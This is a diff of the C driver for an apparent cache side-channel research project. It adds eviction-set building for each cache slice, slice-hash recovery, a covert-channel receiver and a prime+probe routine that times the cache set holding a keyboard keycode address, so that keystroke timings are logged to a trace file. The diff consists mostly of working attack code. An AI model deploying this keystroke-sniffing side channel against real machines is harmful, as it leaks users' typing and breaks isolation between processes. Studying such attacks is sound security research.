@@ -1,3 +1,4 @@
+#define _DEFAULT_SOURCE
 #include <fcntl.h>
 #include <sched.h>
 #include <signal.h>
@@ -9,22 +10,43 @@
 #include <unistd.h>
 #include <x86intrin.h>
 
+#include "../lib/atlas.h"
+#include "../lib/atlas_cache.h"
 #include "../lib/constants.h"
+#include "../lib/covert.h"
 #include "../lib/eviction.h"
 #include "../lib/l3pp.h"
+#include "../lib/pipeline.h"
+#include "../lib/slice_recovery.h"
 #include "../lib/utils.h"
 
 #define TRIALS 1000
 
+// ways set strides, all that hugepage_inflate takes lines from, rounded up to
+// whole huge pages
+#define MAPPING_BYTES mapping_bytes(cache_geometry)
+
+#define ATLAS_CACHE_PATH "atlas.bin"
+#define SLICE_HASH_PATH "slice_hash.txt"
+#define KEYSTROKE_TRACE_PATH "keystrokes.trace"
+
 void *mapping_start;
 EvictionSet **es_list;
+// Number of slices get_all_slices_eviction_sets found a set for
+int es_count = 0;
 unsigned int core_id = 0;
 FILE *file;
 
-void cleanup(EvictionSet **es_listl, void *mapping_start, FILE *file) {
+size_t mapping_bytes(CacheGeometry *geometry) {
+  size_t page_bytes = (size_t)1 << geometry->hugepage_bits;
+  size_t bytes = geometry->ways * geometry_set_stride(geometry);
+  return (bytes + page_bytes - 1) & ~(page_bytes - 1);
+}
+
+void cleanup(EvictionSet **es_list, void *mapping_start, FILE *file) {
   fclose(file);
-  free_es_list(es_list);
-  munmap(mapping_start, EVERGLADES_LLC_SIZE << 4);
+  free_es_list(es_list, cache_geometry);
+  munmap(mapping_start, MAPPING_BYTES);
 }
 void handle_sigint(int sig) {
   safe_print("SIGINT received, cleanup process initiated\n");
@@ -72,7 +94,7 @@ void test_eviction_and_pp(void) {
   uintptr_t pa = pointer_to_pa(target);
 
   // map 64 2 MB pages to ge 256 candidate lines
-  mapping_start = mmap(NULL, EVERGLADES_LLC_SIZE << 4, PROT_READ,
+  mapping_start = mmap(NULL, MAPPING_BYTES, PROT_READ,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
   if (mapping_start == MAP_FAILED) {
     perror("map");
@@ -109,34 +131,110 @@ void test_eviction_and_pp(void) {
 
   free(target);
   deep_free_es(es);
-  munmap(mapping_start, EVERGLADES_LLC_SIZE << 4);
+  munmap(mapping_start, MAPPING_BYTES);
 }
 
-void init_mapping() {
-  mapping_start = mmap(NULL, EVERGLADES_LLC_SIZE << 4, PROT_READ,
+// Map MAPPING_BYTES of huge pages at mapping_start. Returns false if they
+// cannot be mapped.
+bool init_mapping() {
+  mapping_start = mmap(NULL, MAPPING_BYTES, PROT_READ,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
   if (mapping_start == MAP_FAILED) {
     perror("map");
-    return;
+    mapping_start = NULL;
+    return false;
+  }
+  return true;
+}
+
+// Fill es_list with the eviction sets of set for every slice, with candidate
+// pages prepared on another physical core if there is one. The pipeline is
+// stopped before returning so that it does not disturb later probes.
+void build_es_list(int set) {
+  pin_measuring_thread();
+  int cpu = pick_helper_cpu();
+  if (cpu >= 0) {
+    candidate_pipeline = new_candidate_pipeline(PIPELINE_BATCH, cpu, false);
+  }
+
+  es_list = get_all_slices_eviction_sets(mapping_start, set, cache_geometry,
+                                         &es_count);
+
+  if (candidate_pipeline != NULL) {
+    free_candidate_pipeline(candidate_pipeline);
+    candidate_pipeline = NULL;
   }
 }
 
 void test_find_all_eviction_sets(int set) {
   printf("set: %d\n", set);
 
-  es_list = get_all_slices_eviction_sets(mapping_start, set);
+  build_es_list(set);
 
-  for (int i = 0; i < 4; i++) {
+  for (int i = 0; i < es_count; i++) {
     printf("Eviction Set %d: \n", i);
     print_eviction_set(es_list[i]->cache_lines);
   }
 }
 
-int get_evset_index(int slice) {
+// Build eviction sets for every set index and slice from those of set, or
+// load them from ATLAS_CACHE_PATH if an earlier run saved them
+void test_eviction_atlas(int set) {
+  int threads = MAX(sysconf(_SC_NPROCESSORS_ONLN) / 2, 1);
+  EvictionAtlas *atlas =
+      cached_eviction_atlas(ATLAS_CACHE_PATH, cache_geometry, set, threads);
+  if (atlas == NULL) {
+    printf("unable to build eviction atlas\n");
+    return;
+  }
+
+  print_atlas_coverage(atlas);
+  free_eviction_atlas(atlas);
+}
+
+// Recover the slice hash from the lines of set and save it to
+// SLICE_HASH_PATH, where main picks it up if the CPU has no known hash
+void test_slice_recovery(int set) {
+  SliceHash *hash =
+      recover_slice_hash(cache_geometry, set, RECOVERY_HUGEPAGES);
+  if (hash == NULL) {
+    printf("unable to recover the slice hash\n");
+    return;
+  }
+
+  save_slice_hash(hash, SLICE_HASH_PATH);
+  free_slice_hash(hash);
+}
+
+// Receive frames from a victim.out started with the same arguments, on
+// whichever slice of COVERT_SET its line is in
+void test_covert_channel(uint64_t symbol_cycles, bool fec, bool sweep) {
+  build_es_list(COVERT_SET);
+  if (es_count == 0) {
+    printf("no eviction sets for set %d\n", COVERT_SET);
+    free_es_list(es_list, cache_geometry);
+    return;
+  }
+  int threshold = threshold_for_probe(es_list[0], probe_mode);
+  int index = covert_find_sender(es_list, es_count, threshold);
+  printf("Receiving on set %d\n", index);
+
+  threshold = threshold_for_probe(es_list[index], probe_mode);
+  covert_receive_epochs(es_list[index], threshold, symbol_cycles, fec, sweep);
+
+  free_es_list(es_list, cache_geometry);
+}
+
+// Index of the set in es_list on slice, or -1 if there is none or the slice
+// hash is not known
+int get_evset_index(int slice, CacheGeometry *geometry) {
   int ret = -1;
-  for (int i = 0; i < 4; i++) {
+  if (slice_hash == NULL) {
+    return -1;
+  }
+  for (int i = 0; i < es_count; i++) {
     CacheLine *iter = es_list[i]->head;
-    if (slice == get_i7_2600_slice(pointer_to_pa((void *)iter))) {
+    if (slice == pa_to_slice(slice_hash, pointer_to_pa((void *)iter))) {
       ret = i;
     }
   }
@@ -144,58 +242,92 @@ int get_evset_index(int slice) {
 }
 
 uint64_t *profile_slices(int set) {
+  if (slice_hash == NULL) {
+    printf("no slice hash for this CPU\n");
+    return NULL;
+  }
   test_find_all_eviction_sets(set);
+  if (es_count == 0) {
+    printf("no eviction sets for set %d\n", set);
+    return NULL;
+  }
 
   sleep(5);
-  int slice_hit_count[4];
-  uint8_t hit_times[1024 * 1024];
+  ProbeRing *ring = new_probe_ring(PROBES_PER_WINDOW);
   uint64_t timestamps[64 * 64];
   char filename[20];
 
-  uint64_t *size = malloc(4 * sizeof(uint64_t));
+  uint64_t *size = calloc(slice_hash->slices, sizeof(uint64_t));
   int threshold = threshold_from_flush((void *)es_list[0]->head);
-  for (int i = 0; i < 4; i++) {
-    int slice = get_i7_2600_slice(pointer_to_pa((void *)es_list[i]->head));
+  for (int i = 0; i < es_count; i++) {
+    int slice =
+        pa_to_slice(slice_hash, pointer_to_pa((void *)es_list[i]->head));
     printf("testing slice index: %d\n", slice);
-    prime_probe(es_list[i], EVERGLADES_ASSOCIATIVITY, hit_times, 1024 * 1024,
-                timestamps, &size[slice], threshold);
-    print_probe_result(hit_times, 1024 * 1024, 64, 64);
+    prime_probe(es_list[i], ring, PROBES_PER_WINDOW, timestamps, 64 * 64,
+                &size[slice], threshold);
+    print_probe_result(ring, 64, 64);
     sprintf(filename, "output%d.bin", slice);
     flush_timestamps(timestamps, size[slice], filename);
   }
+  free_probe_ring(ring);
 
   return size;
 }
 
 void measure_keystroke() {
-  int set = pa_to_set(KBD_KEYCODE_ADDR, EVERGLADES);
-  int slice = get_i7_2600_slice(KBD_KEYCODE_ADDR);
-  int eslist_index = get_evset_index(slice);
-  uint8_t probemap[1024 * 1024];
-  uint64_t keystrokes[64 * 64];
+  if (slice_hash == NULL) {
+    printf("no slice hash for this CPU\n");
+    return;
+  }
+  int set = pa_to_set(KBD_KEYCODE_ADDR, cache_geometry);
+  int slice = pa_to_slice(slice_hash, KBD_KEYCODE_ADDR);
+  int eslist_index = get_evset_index(slice, cache_geometry);
+  if (eslist_index < 0) {
+    printf("no eviction set on slice %d\n", slice);
+    return;
+  }
+  ProbeRing *ring = new_probe_ring(PROBES_PER_WINDOW);
   uint64_t size;
   int threshold = threshold_from_flush((void *)es_list[0]->head);
-  for (int i = 0; i < 10; i++) {
-    // takes around 1s to fill up 1 MB buffer
-    prime_probe(es_list[eslist_index], EVERGLADES_ASSOCIATIVITY, probemap,
-                1024 * 1024, keystrokes, &size, threshold);
-    flush_timestamps(keystrokes, size, "keystrokes.bin");
+  probe_trace = open_trace_writer(KEYSTROKE_TRACE_PATH, set, slice, threshold);
+  if (probe_trace == NULL) {
+    free_probe_ring(ring);
+    return;
   }
+  // takes around 1s to probe a window
+  prime_probe(es_list[eslist_index], ring, 10 * PROBES_PER_WINDOW, NULL, 0,
+              &size, threshold);
+  close_trace_writer(probe_trace);
+  probe_trace = NULL;
+  free_probe_ring(ring);
 }
 
-int main() {
+int main(int argc, char **argv) {
+  init_cache_geometry();
+  if (init_slice_hash(cache_geometry) == NULL) {
+    slice_hash = load_slice_hash(SLICE_HASH_PATH);
+  }
   // test_eviction_set();
-  // test_covert_channel();
   // test_eviction_and_pp();
+  // test_eviction_atlas(428);
+  // test_slice_recovery(428);
   // signal(SIGINT, handle_sigint);
-  // int set = pa_to_set(KBD_KEYCODE_ADDR, EVERGLADES);
-  init_mapping();
+  // int set = pa_to_set(KBD_KEYCODE_ADDR, cache_geometry);
+  if (!init_mapping()) {
+    return 1;
+  }
+  uint64_t symbol_cycles;
+  bool fec, sweep;
+  if (parse_covert_args(argc, argv, &symbol_cycles, &fec, &sweep)) {
+    test_covert_channel(symbol_cycles, fec, sweep);
+    return 0;
+  }
   // uint64_t *timestamp_sizes = profile_slices(set);
   // uint64_t slice_zero_times[timestamp_sizes[0]];
   // printf("%lu\n", timestamp_sizes[0]);
   // read_binary("output0.bin", slice_zero_times, timestamp_sizes[0]);
   // free(timestamp_sizes);
-  es_list = get_all_slices_eviction_sets(mapping_start, 428);
+  build_es_list(428);
   uint64_t start_time = __rdtscp(&core_id);
   printf("measure start-time: %lu\n", start_time);
   measure_keystroke();